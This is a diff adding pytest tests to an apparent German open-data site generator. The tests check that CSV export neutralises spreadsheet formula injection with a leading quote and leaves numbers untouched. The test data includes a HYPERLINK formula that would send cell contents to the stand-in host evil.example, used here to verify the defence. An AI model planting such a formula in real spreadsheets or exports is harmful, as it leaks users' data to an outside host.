@@ -174,3 +174,37 @@ def test_the_built_site_publishes_every_download(built_valid: Path) -> None:
     for name in ("oparl/system.json", "aenderungen.xml", "sitzungen.ics"):
         assert (built_valid / name).is_file()
         assert f'href="../{name}"' in daten
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("https://evil.example/?x="&A1,"Klick")', '\'=HYPERLINK("https://evil.example/?x="&A1,"Klick")'),
+        ("+49 2131 928-0", "'+49 2131 928-0"),
+        ("-Kürzung", "'-Kürzung"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTab", "'\tTab"),
+        ("\rZeile", "'\rZeile"),
+        ("-5", "-5"),
+        ("+1.5", "+1.5"),
+        ("-1e3", "-1e3"),
+        ("Ziel = 5", "Ziel = 5"),
+        (-12, "-12"),
+        (-0.5, "-0.5"),
+    ],
+)
+def test_csv_cells_that_could_be_formulas_are_neutralised(value: object, cell: str) -> None:
+    from generator.data import _csv_value
+
+    assert _csv_value(value) == cell  # type: ignore[arg-type]
+
+
+def test_a_formula_title_reaches_the_csv_neutralised_and_the_json_verbatim(content_copy: Path) -> None:
+    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Klick")'
+    (content_copy / "target_groups" / "formel.yml").write_text(f"name: '{formula}'\n", encoding="utf-8")
+    pages = {p.path: p.text for p in render(site_of(content_copy))}
+    rows = list(csv.reader(io.StringIO(pages["daten/zielgruppen.csv"], newline="")))
+    assert ["formel", "/zielgruppen/formel/", "'" + formula] in [row[:3] for row in rows]
+    assert {"id": "formel", "name": formula}.items() <= next(
+        r for r in json.loads(pages["daten/zielgruppen.json"]) if r["id"] == "formel"
+    ).items()
